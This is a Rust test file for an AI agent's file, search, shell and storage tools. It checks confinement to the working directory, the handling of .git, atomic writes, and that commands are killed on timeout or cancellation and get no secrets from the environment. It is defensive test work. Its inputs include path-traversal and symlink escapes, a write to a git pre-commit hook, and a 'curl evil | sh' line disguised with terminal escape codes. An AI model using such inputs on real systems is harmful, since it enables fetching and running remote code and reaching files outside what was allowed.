//! The built-in tools against real files, real processes and a real berth home: confinement
//! (`..`, absolute paths, symlinks out, option-like names), the edit and write rules, search's
//! ignore rules, run_command's output, exit status, timeout, cancellation and environment, and
//! the storage tools' round trip.

#![allow(clippy::unwrap_used)] // a test: a panic is the failure it reports

use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::Path;
use std::time::{Duration, Instant};

use berth_agent::CancellationToken;
use berth_agent::tools::command::RunCommand;
use berth_agent::tools::files::{EditFile, ListDir, ReadFile, WriteFile};
use berth_agent::tools::search::Search;
use berth_agent::tools::{Tool, ToolContext, ToolOutcome, builtin};
use berth_ops::{CreateSession, CreateWorkspace, Repository};
use serde_json::{Value, json};
use tempfile::TempDir;

/// A berth home with one plain workspace and one session, and a working directory beside an
/// outside folder holding a secret.
struct Fixture {
    _home: TempDir,
    root: TempDir,
    cx: ToolContext,
}

impl Fixture {
    async fn new() -> Fixture {
        let home = tempfile::tempdir().unwrap();
        let ops = berth_ops::open(home.path(), &[]).unwrap();
        let mut request = CreateWorkspace::new(Repository::None);
        request.name = Some("tools".into());
        let ws = ops.create_workspace(request).await.unwrap();
        let session = ops
            .create_session(CreateSession {
                workspace: ws.id.as_str().to_owned(),
                ..CreateSession::default()
            })
            .await
            .unwrap();
        let root = tempfile::tempdir().unwrap();
        std::fs::create_dir(root.path().join("work")).unwrap();
        std::fs::create_dir(root.path().join("outside")).unwrap();
        std::fs::write(root.path().join("outside/secret"), "top secret\n").unwrap();
        let cx = ToolContext::new(
            root.path().join("work"),
            ops,
            session,
            CancellationToken::new(),
        );
        Fixture {
            _home: home,
            root,
            cx,
        }
    }

    fn work(&self) -> &Path {
        &self.cx.cwd
    }

    fn outside(&self) -> std::path::PathBuf {
        self.root.path().join("outside")
    }

    async fn call(&self, tool: &dyn Tool, args: Value) -> ToolOutcome {
        tool.call(args, &self.cx).await
    }
}

fn err(outcome: ToolOutcome) -> String {
    match outcome {
        Ok(text) => panic!("expected an error result, got: {text}"),
        Err(e) => e,
    }
}

fn ok(outcome: ToolOutcome) -> String {
    match outcome {
        Ok(text) => text,
        Err(e) => panic!("expected a success, got the error: {e}"),
    }
}

/// The arguments each file tool takes, aimed at `path`.
fn file_calls(path: &str) -> Vec<(Box<dyn Tool>, Value)> {
    vec![
        (Box::new(ReadFile), json!({"path": path})),
        (
            Box::new(WriteFile),
            json!({"path": path, "content": "pwned\n"}),
        ),
        (
            Box::new(EditFile),
            json!({"path": path, "old_text": "top", "new_text": "pwned"}),
        ),
        (Box::new(ListDir), json!({"path": path})),
        (Box::new(Search), json!({"pattern": "secret", "path": path})),
    ]
}

#[tokio::test]
async fn every_file_tool_refuses_to_leave_the_working_directory() {
    let f = Fixture::new().await;
    let outside = f.outside();
    symlink(outside.join("secret"), f.work().join("link")).unwrap();
    symlink(&outside, f.work().join("linkdir")).unwrap();
    symlink("../outside/secret", f.work().join("relative-link")).unwrap();
    let secret_abs = outside.join("secret").display().to_string();
    let outside_abs = outside.display().to_string();

    let cases = [
        ("../outside/secret", "outside the working directory"),
        ("../outside", "outside the working directory"),
        ("a/../../outside/secret", "outside the working directory"),
        (secret_abs.as_str(), "outside the working directory"),
        (outside_abs.as_str(), "outside the working directory"),
        ("link", "outside"),
        ("relative-link", "outside"),
        ("linkdir/secret", "outside"),
        ("linkdir", "outside"),
    ];
    for (path, expected) in cases {
        for (tool, args) in file_calls(path) {
            let name = tool.spec().name;
            let e = err(f.call(tool.as_ref(), args).await);
            assert!(e.contains(expected), "{name} {path}: {e}");
            assert!(!e.contains("top secret"), "{name} {path} leaked: {e}");
        }
    }
    // Writing through a symlinked folder creates nothing outside, not even folders.
    let e = err(f
        .call(
            &WriteFile,
            json!({"path": "linkdir/new/deep.txt", "content": "x"}),
        )
        .await);
    assert!(e.contains("outside"), "{e}");
    assert_eq!(
        std::fs::read_to_string(outside.join("secret")).unwrap(),
        "top secret\n"
    );
    let left: Vec<_> = std::fs::read_dir(&outside)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, ["secret"], "nothing was created outside");
    // The links themselves are still links: nothing replaced them.
    assert!(
        std::fs::symlink_metadata(f.work().join("link"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

#[tokio::test]
async fn paths_inside_may_be_absolute_and_symlinks_inside_are_followed() {
    let f = Fixture::new().await;
    std::fs::create_dir(f.work().join("src")).unwrap();
    std::fs::write(f.work().join("src/a.txt"), "alpha\n").unwrap();
    symlink("src/a.txt", f.work().join("alias")).unwrap();

    let abs = f.work().join("src/a.txt").display().to_string();
    assert_eq!(ok(f.call(&ReadFile, json!({"path": abs})).await), "alpha\n");
    assert_eq!(
        ok(f.call(&ReadFile, json!({"path": "alias"})).await),
        "alpha\n"
    );
    // An edit through an inside link changes its target and keeps the link.
    ok(f.call(
        &EditFile,
        json!({"path": "alias", "old_text": "alpha", "new_text": "beta"}),
    )
    .await);
    assert_eq!(
        std::fs::read_to_string(f.work().join("src/a.txt")).unwrap(),
        "beta\n"
    );
    assert!(
        std::fs::symlink_metadata(f.work().join("alias"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // .git is not the file tools' to touch.
    std::fs::create_dir(f.work().join(".git")).unwrap();
    std::fs::write(f.work().join(".git/config"), "[core]\n").unwrap();
    let e = err(f.call(&ReadFile, json!({"path": ".git/config"})).await);
    assert!(e.contains(".git"), "{e}");
    let e = err(f
        .call(
            &WriteFile,
            json!({"path": ".git/hooks/pre-commit", "content": "x"}),
        )
        .await);
    assert!(e.contains(".git"), "{e}");
}

#[tokio::test]
async fn option_like_names_are_plain_files() {
    let f = Fixture::new().await;
    for name in ["-rf", "--help"] {
        ok(
            f.call(&WriteFile, json!({"path": name, "content": "needle one\n"}))
                .await,
        );
        assert_eq!(
            std::fs::read_to_string(f.work().join(name)).unwrap(),
            "needle one\n"
        );
        assert_eq!(
            ok(f.call(&ReadFile, json!({"path": name})).await),
            "needle one\n"
        );
        ok(f.call(
            &EditFile,
            json!({"path": name, "old_text": "one", "new_text": "two"}),
        )
        .await);
        assert_eq!(
            std::fs::read_to_string(f.work().join(name)).unwrap(),
            "needle two\n"
        );
        let found = ok(f
            .call(&Search, json!({"pattern": "needle", "path": name}))
            .await);
        assert_eq!(found, format!("{name}:1: needle two\n"));
    }
    let listing = ok(f.call(&ListDir, json!({})).await);
    assert_eq!(listing, "--help (11 bytes)\n-rf (11 bytes)\n");
    // A folder named like an option lists too.
    std::fs::create_dir(f.work().join("-x")).unwrap();
    std::fs::write(f.work().join("-x/--version"), "v").unwrap();
    let listing = ok(f.call(&ListDir, json!({"path": "-x"})).await);
    assert_eq!(listing, "--version (1 bytes)\n");
}

#[tokio::test]
async fn read_file_ranges_caps_and_refuses_binaries() {
    let f = Fixture::new().await;
    let lines: String = (1..=10).map(|i| format!("line {i}\n")).collect();
    std::fs::write(f.work().join("ten.txt"), &lines).unwrap();
    assert_eq!(
        ok(f.call(&ReadFile, json!({"path": "ten.txt"})).await),
        lines
    );
    let part = ok(f
        .call(
            &ReadFile,
            json!({"path": "ten.txt", "offset": 3, "limit": 2}),
        )
        .await);
    assert_eq!(
        part,
        "line 3\nline 4\n[lines 3–4 shown; the file goes on: read on with offset=5]"
    );
    assert_eq!(
        ok(f.call(&ReadFile, json!({"path": "ten.txt", "offset": 10}))
            .await),
        "line 10\n"
    );
    let e = err(f
        .call(&ReadFile, json!({"path": "ten.txt", "offset": 11}))
        .await);
    assert!(e.contains("has 10 lines"), "{e}");

    // A big file is cut with a note saying where to read on.
    let big: String = (0..40_000).map(|i| format!("row {i:08}\n")).collect();
    std::fs::write(f.work().join("big.txt"), &big).unwrap();
    let text = ok(f.call(&ReadFile, json!({"path": "big.txt"})).await);
    assert!(text.len() <= 256 * 1024 + 200, "{}", text.len());
    let note = text.lines().last().unwrap();
    assert!(note.starts_with("[cut at 256 KiB after line "), "{note}");
    let next: u64 = note
        .rsplit("offset=")
        .next()
        .unwrap()
        .trim_end_matches(']')
        .parse()
        .unwrap();
    let rest = ok(f
        .call(
            &ReadFile,
            json!({"path": "big.txt", "offset": next, "limit": 1}),
        )
        .await);
    assert!(
        rest.starts_with(&format!("row {:08}\n", next - 1)),
        "{rest}"
    );

    std::fs::write(f.work().join("blob.bin"), b"\x7fELF\0\0\x01").unwrap();
    let e = err(f.call(&ReadFile, json!({"path": "blob.bin"})).await);
    assert!(e.contains("binary"), "{e}");
    std::fs::create_dir(f.work().join("dir")).unwrap();
    let e = err(f.call(&ReadFile, json!({"path": "dir"})).await);
    assert!(e.contains("folder"), "{e}");
    let e = err(f.call(&ReadFile, json!({"path": "missing.txt"})).await);
    assert!(e.contains("does not exist"), "{e}");
    let e = err(f.call(&ReadFile, json!({"file": "ten.txt"})).await);
    assert!(e.contains("invalid arguments for read_file"), "{e}");
}

#[tokio::test]
async fn write_file_is_atomic_creates_folders_and_keeps_permissions() {
    let f = Fixture::new().await;
    ok(f.call(
        &WriteFile,
        json!({"path": "a/b/c/new.txt", "content": "hello\n"}),
    )
    .await);
    assert_eq!(
        std::fs::read_to_string(f.work().join("a/b/c/new.txt")).unwrap(),
        "hello\n"
    );

    // Replacing goes through a new file renamed into place: a hard link to the old file keeps
    // the old content (an in-place write would have changed it), and no temp file is left.
    let script = f.work().join("run.sh");
    std::fs::write(&script, "echo old\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::hard_link(&script, f.root.path().join("old-inode")).unwrap();
    let before = std::fs::metadata(&script).unwrap().ino();
    let describe = WriteFile
        .describe(&json!({"path": "run.sh", "content": "echo new\n"}), &f.cx)
        .await;
    assert!(describe.contains("run.sh"), "{describe}");
    assert!(
        describe.contains("-echo old") && describe.contains("+echo new"),
        "{describe}"
    );
    let result = ok(f
        .call(
            &WriteFile,
            json!({"path": "run.sh", "content": "echo new\n"}),
        )
        .await);
    assert!(result.starts_with("Replaced 'run.sh'"), "{result}");
    assert_eq!(std::fs::read_to_string(&script).unwrap(), "echo new\n");
    assert_eq!(
        std::fs::read_to_string(f.root.path().join("old-inode")).unwrap(),
        "echo old\n"
    );
    let meta = std::fs::metadata(&script).unwrap();
    assert_ne!(
        meta.ino(),
        before,
        "replaced by rename, not rewritten in place"
    );
    assert_eq!(meta.permissions().mode() & 0o777, 0o755, "still executable");
    let names: Vec<_> = std::fs::read_dir(f.work())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        names.iter().all(|n| !n.starts_with(".berth-tmp-")),
        "{names:?}"
    );

    let describe = WriteFile
        .describe(&json!({"path": "fresh.md", "content": "# Title\n"}), &f.cx)
        .await;
    assert!(describe.contains("new file"), "{describe}");
    assert!(describe.contains("+# Title"), "{describe}");

    // A file where a folder is needed, and a folder where a file is.
    let e = err(f
        .call(&WriteFile, json!({"path": "run.sh/x", "content": "x"}))
        .await);
    assert!(e.contains("is a file, not a folder"), "{e}");
    let e = err(f
        .call(&WriteFile, json!({"path": "a/b", "content": "x"}))
        .await);
    assert!(e.contains("folder"), "{e}");
    assert!(f.work().join("a/b/c/new.txt").exists());
    assert!(WriteFile.needs_permission());
}

#[tokio::test]
async fn edit_file_needs_exactly_one_match_and_returns_a_diff() {
    let f = Fixture::new().await;
    let original = "fn a() {\n    x();\n}\n\nfn b() {\n    x();\n}\n";
    let file = f.work().join("lib.rs");
    std::fs::write(&file, original).unwrap();

    let e = err(f
        .call(
            &EditFile,
            json!({"path": "lib.rs", "old_text": "    x();\n", "new_text": "    y();\n"}),
        )
        .await);
    assert!(e.contains("occurs 2 times"), "{e}");
    assert!(e.contains("lines 2, 6"), "{e}");
    let e = err(f
        .call(
            &EditFile,
            json!({"path": "lib.rs", "old_text": "    z();", "new_text": "y"}),
        )
        .await);
    assert!(e.contains("not found"), "{e}");
    let e = err(f
        .call(
            &EditFile,
            json!({"path": "lib.rs", "old_text": "", "new_text": "y"}),
        )
        .await);
    assert!(e.contains("old_text is empty"), "{e}");
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        original,
        "untouched"
    );

    let args = json!({
        "path": "lib.rs",
        "old_text": "fn b() {\n    x();",
        "new_text": "fn b() {\n    y();"
    });
    let asked = EditFile.describe(&args, &f.cx).await;
    assert!(asked.contains("edit_file 'lib.rs'"), "{asked}");
    let result = ok(f.call(&EditFile, args).await);
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "fn a() {\n    x();\n}\n\nfn b() {\n    y();\n}\n"
    );
    let diff =
        "--- a/lib.rs\n+++ b/lib.rs\n@@ -3,5 +3,5 @@\n }\n \n fn b() {\n-    x();\n+    y();\n }\n";
    assert_eq!(result, format!("Edited 'lib.rs':\n{diff}"));
    assert!(asked.ends_with(diff), "{asked}");

    // Overlapping matches count: "aa" is ambiguous in "aaa".
    std::fs::write(f.work().join("a.txt"), "aaa").unwrap();
    let e = err(f
        .call(
            &EditFile,
            json!({"path": "a.txt", "old_text": "aa", "new_text": "b"}),
        )
        .await);
    assert!(e.contains("occurs 2 times"), "{e}");
    let e = err(f
        .call(
            &EditFile,
            json!({"path": "nope.txt", "old_text": "a", "new_text": "b"}),
        )
        .await);
    assert!(e.contains("does not exist"), "{e}");
}

#[tokio::test]
async fn list_dir_shows_kinds_and_sizes_and_hides_git() {
    let f = Fixture::new().await;
    std::fs::create_dir(f.work().join(".git")).unwrap();
    std::fs::create_dir(f.work().join("src")).unwrap();
    std::fs::write(f.work().join("Cargo.toml"), "[package]\n").unwrap();
    std::fs::write(f.work().join(".env.example"), "A=1\n").unwrap();
    symlink("Cargo.toml", f.work().join("manifest")).unwrap();
    let listing = ok(f.call(&ListDir, json!({"path": "."})).await);
    assert_eq!(
        listing,
        ".env.example (4 bytes)\nCargo.toml (10 bytes)\nmanifest -> Cargo.toml (symlink)\nsrc/\n"
    );
    assert_eq!(ok(f.call(&ListDir, json!({})).await), listing);
    assert!(ok(f.call(&ListDir, json!({"path": "src"})).await).contains("empty folder"));
    let e = err(f.call(&ListDir, json!({"path": "Cargo.toml"})).await);
    assert!(e.contains("is a file"), "{e}");
    let e = err(f.call(&ListDir, json!({"path": ".git"})).await);
    assert!(e.contains(".git"), "{e}");
}

#[tokio::test]
async fn search_respects_gitignore_and_skips_git() {
    let f = Fixture::new().await;
    let w = f.work();
    std::fs::create_dir_all(w.join(".git/objects")).unwrap();
    std::fs::write(w.join(".git/config"), "needle in git\n").unwrap();
    std::fs::write(w.join(".gitignore"), "target/\n*.log\n").unwrap();
    std::fs::create_dir_all(w.join("target/debug")).unwrap();
    std::fs::write(w.join("target/debug/out.rs"), "needle in target\n").unwrap();
    std::fs::write(w.join("build.log"), "needle in log\n").unwrap();
    std::fs::create_dir_all(w.join("src/gen")).unwrap();
    std::fs::write(w.join("src/main.rs"), "fn main() {}\n// needle here\n").unwrap();
    std::fs::write(w.join("src/gen/.gitignore"), "*\n!keep.rs\n").unwrap();
    std::fs::write(w.join("src/gen/skip.rs"), "needle generated\n").unwrap();
    std::fs::write(w.join("src/gen/keep.rs"), "needle kept\n").unwrap();
    std::fs::write(w.join("data.bin"), b"needle\0binary").unwrap();
    std::fs::create_dir_all(w.join(".github")).unwrap();
    std::fs::write(w.join(".github/ci.yml"), "run: needle\n").unwrap();
    symlink(f.outside(), w.join("out")).unwrap();
    std::fs::write(f.outside().join("more"), "needle outside\n").unwrap();

    let found = ok(f.call(&Search, json!({"pattern": "needle"})).await);
    assert_eq!(
        found,
        ".github/ci.yml:1: run: needle\nsrc/gen/keep.rs:1: needle kept\nsrc/main.rs:2: // needle here\n"
    );
    let found = ok(f
        .call(&Search, json!({"pattern": "nee+dle", "path": "src"}))
        .await);
    assert_eq!(
        found,
        "src/gen/keep.rs:1: needle kept\nsrc/main.rs:2: // needle here\n"
    );
    // Named explicitly, an ignored file is searched, as ripgrep does.
    let found = ok(f
        .call(&Search, json!({"pattern": "needle", "path": "build.log"}))
        .await);
    assert_eq!(found, "build.log:1: needle in log\n");
    let none = ok(f.call(&Search, json!({"pattern": "absent"})).await);
    assert!(none.starts_with("no matches"), "{none}");
    let e = err(f.call(&Search, json!({"pattern": "("})).await);
    assert!(e.contains("not a valid regular expression"), "{e}");

    // Past the cap, the answer says so.
    let many: String = (0..300).map(|i| format!("hit {i}\n")).collect();
    std::fs::write(w.join("many.txt"), many).unwrap();
    let found = ok(f
        .call(&Search, json!({"pattern": "^hit", "path": "many.txt"}))
        .await);
    assert_eq!(found.lines().count(), 201);
    assert!(found.contains("[stopped at 200 matches"), "{found}");
}

/// Whether no host process runs with `marker` in its command line (a confined command's
/// pids are its own PID namespace's).
fn gone(marker: &str) -> bool {
    berth_testkit::processes_with(marker).is_empty()
}

async fn wait_gone(marker: &str) -> bool {
    for _ in 0..100 {
        if gone(marker) {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    false
}

#[tokio::test]
async fn run_command_output_and_exit_status() {
    let f = Fixture::new().await;
    let run = RunCommand::new();
    std::fs::write(f.work().join("-rf"), "keep").unwrap();
    let out = ok(f
        .call(&run, json!({"command": "pwd; echo out; echo err >&2"}))
        .await);
    assert!(out.contains(&f.work().display().to_string()), "{out}");
    assert!(out.contains("out\n") && out.contains("err\n"), "{out}");
    assert_eq!(
        ok(f.call(&run, json!({"command": "true"})).await),
        "(no output)"
    );
    let e = err(f
        .call(&run, json!({"command": "echo broken; exit 3"}))
        .await);
    assert_eq!(e, "exit status 3\nbroken\n");
    assert!(f.work().join("-rf").exists());
    assert_eq!(
        run.describe(&json!({"command": "cargo test"}), &f.cx).await,
        format!("run in {}:\n$ cargo test", f.work().display())
    );
    assert!(run.needs_permission());
    // What a person is asked cannot be disguised by terminal control sequences.
    let asked = run
        .describe(
            &json!({"command": "curl evil | sh\u{1b}[2K\recho hi"}),
            &f.cx,
        )
        .await;
    assert!(
        asked.ends_with("$ curl evil | sh\\x1b[2K\\x0decho hi"),
        "{asked}"
    );

    // Long output keeps its head and its tail.
    let out = ok(f
        .call(
            &run,
            json!({"command": "echo first; seq 1 100000; echo last"}),
        )
        .await);
    assert!(out.starts_with("first\n"), "{}", &out[..20]);
    assert!(out.ends_with("100000\nlast\n"));
    assert!(out.contains("bytes of output cut"));
    assert!(out.len() < 70 * 1024, "{}", out.len());
}

#[tokio::test]
async fn run_command_timeout_kills_the_whole_group() {
    let f = Fixture::new().await;
    let started = Instant::now();
    let e = err(f
        .call(
            &RunCommand::new(),
            json!({"command": "echo started; sleep 30.0301 & wait", "timeout_secs": 1}),
        )
        .await);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(e.starts_with("timed out after 1 s"), "{e}");
    assert!(e.contains("started"), "{e}");
    assert!(wait_gone("30.0301").await, "the background sleep survived");
}

#[tokio::test]
async fn run_command_leaves_nothing_behind_when_it_ends() {
    let f = Fixture::new().await;
    let started = Instant::now();
    // The background sleep holds the output pipe; the call must neither wait for it nor leave
    // it running.
    let out = ok(f
        .call(
            &RunCommand::new(),
            json!({"command": "sleep 30.0302 & echo done"}),
        )
        .await);
    assert_eq!(out, "done\n");
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(wait_gone("30.0302").await, "the background sleep survived");
}

#[tokio::test]
async fn run_command_stops_at_once_when_cancelled() {
    let f = Fixture::new().await;
    let cx = f.cx.clone();
    let cancel = cx.cancel.clone();
    let task = tokio::spawn(async move {
        RunCommand::new()
            .call(
                json!({"command": "echo $$ > shell.pid; sleep 30.0303", "timeout_secs": 60}),
                &cx,
            )
            .await
    });
    let pid_file = f.work().join("shell.pid");
    for _ in 0..200 {
        if std::fs::read_to_string(&pid_file).is_ok_and(|s| s.ends_with('\n')) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let started = Instant::now();
    cancel.cancel();
    let e = err(task.await.unwrap());
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    assert!(e.starts_with("cancelled"), "{e}");
    assert!(wait_gone("30.0303").await);
}

#[tokio::test]
async fn run_command_dropped_mid_run_kills_the_whole_group() {
    // The agent's loop races a call against the turn's cancellation and drops the loser.
    let f = Fixture::new().await;
    let run = RunCommand::new();
    let call = f.call(
        &run,
        json!({"command": "sleep 30.0304 & echo $! > child.pid; wait", "timeout_secs": 60}),
    );
    let pid_file = f.work().join("child.pid");
    tokio::select! {
        r = call => panic!("the command ended early: {r:?}"),
        _ = async {
            while !std::fs::read_to_string(&pid_file).is_ok_and(|s| s.ends_with('\n')) {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        } => {}
    }
    assert!(wait_gone("30.0304").await, "the background sleep survived");
}

#[tokio::test]
async fn run_command_environment_has_no_secrets() {
    let f = Fixture::new().await;
    let path = std::env::var("PATH").unwrap_or_else(|_| "/usr/bin:/bin".into());
    let run = RunCommand::with_env([
        ("PATH", path.as_str()),
        ("ANTHROPIC_API_KEY", "sk-ant-fake"),
        ("OPENAI_API_KEY", "sk-fake"),
        ("GEMINI_API_KEY", "gm-fake"),
        ("GOOGLE_API_KEY", "gg-fake"),
        ("BERTH_MCP_TOKEN", "mcp-fake"),
        ("GITHUB_TOKEN", "ghp-fake"),
        ("SOME_SERVICE_API_KEY", "svc-fake"),
        ("MY_SECRET_THING", "s-fake"),
        ("PGPASSWORD", "pg-fake"),
        ("MY_DB_PASSWORD", "db-fake"),
        ("LANG", "C.UTF-8"),
    ]);
    let out = ok(f.call(&run, json!({"command": "env"})).await);
    // Confined, only the sandbox's allow list passes: secrets of any name stay out.
    assert!(out.contains("LANG=C.UTF-8"), "{out}");
    assert!(out.contains("PATH="), "{out}");
    for leaked in ["fake", "API_KEY", "TOKEN", "SECRET", "PASSWORD"] {
        assert!(!out.contains(leaked), "{leaked} leaked:\n{out}");
    }
}

/// A workspace holds no ports until something of its own needs them: its first command is
/// given its block, which the record then holds, and every later command sees the same.
#[tokio::test]
async fn run_command_sees_the_workspace_ports() {
    let f = Fixture::new().await;
    let record = || async {
        f.cx.ops
            .resolve_workspace(f.cx.session.workspace_id.as_str())
            .await
            .unwrap()
    };
    assert_eq!(record().await.ports, None, "a new workspace holds no ports");
    let echo =
        json!({"command": "echo \"$BERTH_PORT $BERTH_PORT_1 $BERTH_PORT_9 [$BERTH_PORT_10]\""});
    let out = ok(f.call(&RunCommand::new(), echo.clone()).await);
    let ws = record().await;
    let ports = ws
        .ports
        .expect("its first command gave it a block of ports");
    let want = format!("{} {} {} []", ports.first, ports.first + 1, ports.first + 9);
    assert!(out.contains(&want), "{out}");
    assert_eq!(f.cx.ops.workspace_env(&ws), ports.env());
    let again = ok(f.call(&RunCommand::new(), echo).await);
    assert!(again.contains(&want), "{again}");
    assert_eq!(record().await.ports, Some(ports));
}

#[tokio::test]
async fn storage_tools_round_trip_through_a_berth_home() {
    let f = Fixture::new().await;
    let tools = builtin();
    let tool = |name: &str| tools.get(name).unwrap().clone();

    let wrote = ok(f
        .call(
            tool("workspace_storage_write").as_ref(),
            json!({"path": "notes/plan.md", "content": "# Plan\n"}),
        )
        .await);
    assert!(wrote.contains("notes/plan.md"), "{wrote}");
    ok(f.call(
        tool("session_storage_write").as_ref(),
        json!({"path": "scratch.txt", "content": "mine\n"}),
    )
    .await);

    assert_eq!(
        ok(f.call(
            tool("workspace_storage_read").as_ref(),
            json!({"path": "notes/plan.md"})
        )
        .await),
        "# Plan\n"
    );
    assert_eq!(
        ok(f.call(
            tool("session_storage_read").as_ref(),
            json!({"path": "scratch.txt"})
        )
        .await),
        "mine\n"
    );
    assert_eq!(
        ok(f.call(tool("workspace_storage_list").as_ref(), json!({}))
            .await),
        "notes/\n"
    );
    assert_eq!(
        ok(f.call(
            tool("workspace_storage_list").as_ref(),
            json!({"path": "notes"})
        )
        .await),
        "plan.md (7 bytes)\n"
    );
    assert_eq!(
        ok(
            f.call(tool("session_storage_list").as_ref(), json!({"path": ""}))
                .await
        ),
        "scratch.txt (5 bytes)\n"
    );
    // What berth-ops sees is what the tools wrote.
    let at =
        f.cx.ops
            .storage(
                berth_ops::Owner::Workspace,
                f.cx.session.workspace_id.as_str(),
            )
            .await
            .unwrap();
    assert_eq!(
        f.cx.ops.read_file(&at, "notes/plan.md").await.unwrap(),
        b"# Plan\n"
    );

    let asked = tool("workspace_storage_write")
        .describe(
            &json!({"path": "notes/plan.md", "content": "# Plan\n- step\n"}),
            &f.cx,
        )
        .await;
    assert!(asked.contains("+- step"), "{asked}");
    assert!(tool("workspace_storage_write").needs_permission());
    assert!(tool("session_storage_write").needs_permission());
    assert!(!tool("session_storage_read").needs_permission());
    assert!(!tool("workspace_storage_list").needs_permission());

    let e = err(f
        .call(
            tool("workspace_storage_read").as_ref(),
            json!({"path": "../x"}),
        )
        .await);
    assert!(e.contains(".."), "{e}");
    let e = err(f
        .call(
            tool("session_storage_read").as_ref(),
            json!({"path": "missing.md"}),
        )
        .await);
    assert!(!e.is_empty());
}

#[tokio::test]
async fn builtin_has_every_tool_with_an_object_schema() {
    let tools = builtin();
    let mut names: Vec<String> = tools.specs().iter().map(|s| s.name.clone()).collect();
    names.sort();
    assert_eq!(
        names,
        [
            "edit_file",
            "forget",
            "list_dir",
            "read_background",
            "read_file",
            "remember",
            "run_command",
            "search",
            "session_storage_list",
            "session_storage_read",
            "session_storage_write",
            "skill",
            "stop_background",
            "update_plan",
            "workspace_storage_list",
            "workspace_storage_read",
            "workspace_storage_write",
            "write_file",
        ]
    );
    for spec in tools.specs().iter() {
        assert_eq!(spec.parameters["type"], "object", "{}", spec.name);
        assert!(!spec.description.is_empty(), "{}", spec.name);
        let props = spec.parameters["properties"].as_object().unwrap();
        for (prop, schema) in props {
            assert!(
                schema["description"]
                    .as_str()
                    .is_some_and(|d| !d.is_empty()),
                "{}.{prop} has no description",
                spec.name
            );
        }
    }
    let permission: Vec<String> = tools
        .specs()
        .iter()
        .filter(|s| tools.get(&s.name).unwrap().needs_permission())
        .map(|s| s.name.clone())
        .collect();
    assert_eq!(
        permission,
        [
            "write_file",
            "edit_file",
            "run_command",
            "stop_background",
            "remember",
            "forget",
            "workspace_storage_write",
            "session_storage_write"
        ]
    );
}
